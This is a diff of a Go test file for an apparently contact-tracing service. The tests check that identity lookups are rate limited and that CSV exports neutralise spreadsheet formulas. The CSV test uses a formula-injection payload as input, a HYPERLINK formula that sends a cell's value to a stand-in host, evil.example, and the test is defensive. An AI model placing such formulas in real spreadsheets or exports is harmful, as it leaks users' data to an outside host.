@@ -10,17 +10,18 @@ import (
 // A checkpoint key looks people up by identity number at a desk's pace; a
 // stolen one cannot walk the register. Refused input costs nothing.
 func TestIdentityLookupsAreRateLimited(t *testing.T) {
+	t.Parallel()
 	forEach(t, func(t *testing.T, e *env) {
-		e.resident("13900000601", "刘备查", rid("19700101", 601), "341881001")
+		e.Resident("13900000601", "刘备查", rid("19700101", 601), "341881001")
 		checkpoint := func(name string) string {
-			return e.want(e.do("POST", "/api/v1/admin/checkpoints", e.admin(), map[string]any{"name": name, "region": "341881001"}), 201, "").str("api_key")
+			return e.Want(e.Do("POST", "/api/v1/admin/checkpoints", e.Admin(), map[string]any{"name": name, "region": "341881001"}), 201, "").Str("api_key")
 		}
 		key, other := checkpoint("服务台"), checkpoint("另一服务台")
 		lookup := func(key, number string) resp {
-			return e.do("POST", "/api/v1/verify/id", key, map[string]any{"id_type": "resident_id", "id_number": number})
+			return e.Do("POST", "/api/v1/verify/id", key, map[string]any{"id_type": "resident_id", "id_number": number})
 		}
 		for range 30 {
-			e.want(lookup(key, "123"), 400, "")
+			e.Want(lookup(key, "123"), 400, "")
 		}
 		// 20 at once, then one every 3 seconds; nobody found is a lookup too.
 		start := time.Now()
@@ -31,37 +32,38 @@ func TestIdentityLookupsAreRateLimited(t *testing.T) {
 				number = rid("19700101", 700+done)
 			}
 			r := lookup(key, number)
-			if r.status == 429 {
-				e.want(r, 429, "rate_limited")
+			if r.Status == 429 {
+				e.Want(r, 429, "rate_limited")
 				break
 			}
-			if r.status != 200 && r.errCode() != "id_not_registered" {
-				t.Fatalf("lookup %d: %d %s", done, r.status, r.raw)
+			if r.Status != 200 && r.ErrCode() != "id_not_registered" {
+				t.Fatalf("lookup %d: %d %s", done, r.Status, r.Raw)
 			}
 		}
 		if refilled := int(time.Since(start)/(3*time.Second)) + 1; done < 20 || done > 20+refilled {
 			t.Fatalf("%d lookups before the limit in %v, want 20 and at most %d more", done, time.Since(start), refilled)
 		}
-		e.want(lookup(other, rid("19700101", 601)), 200, "")
+		e.Want(lookup(other, rid("19700101", 601)), 200, "")
 	})
 }
 
 // Names typed by someone reach operators' spreadsheets through the CSV
 // exports; one that starts like a formula is exported as text.
 func TestCSVExportsDoNotCarryFormulas(t *testing.T) {
+	t.Parallel()
 	forEach(t, func(t *testing.T, e *env) {
-		admin := e.admin()
+		admin := e.Admin()
 		formula := `=HYPERLINK("http://evil.example/?"&A1,"点我")`
-		_, venueTok := e.venue(admin, formula, "restaurant", "341881001")
-		caseTok, caseID := e.resident("13900000611", "-陈病例", rid("19750101", 611), "341881001")
-		compTok, _ := e.resident("13900000612", "@林同行", rid("19760101", 612), "341881001")
-		e.want(e.do("POST", "/api/v1/checkins", caseTok, map[string]any{"venue_token": venueTok}), 201, "")
-		e.want(e.do("POST", "/api/v1/checkins", compTok, map[string]any{"venue_token": venueTok}), 201, "")
-		run := e.want(e.do("POST", "/api/v1/admin/tracing", admin, map[string]any{"person_ids": []string{caseID}}), 202, "").str("id")
-		if done := e.waitRun(admin, run); done.body["companions"] != 1.0 {
-			t.Fatalf("run: %s", done.raw)
+		_, venueTok := e.Venue(admin, formula, "restaurant", "341881001")
+		caseTok, caseID := e.Resident("13900000611", "-陈病例", rid("19750101", 611), "341881001")
+		compTok, _ := e.Resident("13900000612", "@林同行", rid("19760101", 612), "341881001")
+		e.Want(e.Do("POST", "/api/v1/checkins", caseTok, map[string]any{"venue_token": venueTok}), 201, "")
+		e.Want(e.Do("POST", "/api/v1/checkins", compTok, map[string]any{"venue_token": venueTok}), 201, "")
+		run := e.Want(e.Do("POST", "/api/v1/admin/tracing", admin, map[string]any{"person_ids": []string{caseID}}), 202, "").Str("id")
+		if done := e.waitRun(admin, run); done.Body["companions"] != 1.0 {
+			t.Fatalf("run: %s", done.Raw)
 		}
-		_, body := e.getAuth("/api/v1/admin/tracing/"+run+"/report.csv?lang=en", admin)
+		_, body := e.GetAuth("/api/v1/admin/tracing/"+run+"/report.csv?lang=en", admin)
 		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(body), "\uFEFF"))).ReadAll()
 		if err != nil || len(rows) != 2 {
 			t.Fatalf("export: %v\n%s", err, body)
@@ -75,9 +77,9 @@ func TestCSVExportsDoNotCarryFormulas(t *testing.T) {
 			t.Fatalf("the venue's name is not kept as text:\n%s", body)
 		}
 
-		e.want(e.do("POST", "/api/v1/admin/sites", admin, map[string]any{"name": formula, "address": "+宁国市", "hours": "@全天",
+		e.Want(e.Do("POST", "/api/v1/admin/sites", admin, map[string]any{"name": formula, "address": "+宁国市", "hours": "@全天",
 			"lat": 30.6, "lng": -118.9, "region": "341881001"}), 201, "")
-		_, body = e.get("/api/v1/sites?format=csv")
+		_, body = e.Get("/api/v1/sites?format=csv")
 		rows, err = csv.NewReader(strings.NewReader(string(body))).ReadAll()
 		if err != nil || len(rows) != 2 || rows[1][1] != "'"+formula || rows[1][2] != "'+宁国市" || rows[1][4] != "'@全天" || rows[1][6] != "-118.9" {
 			t.Fatalf("sites CSV: %v %q", err, rows)
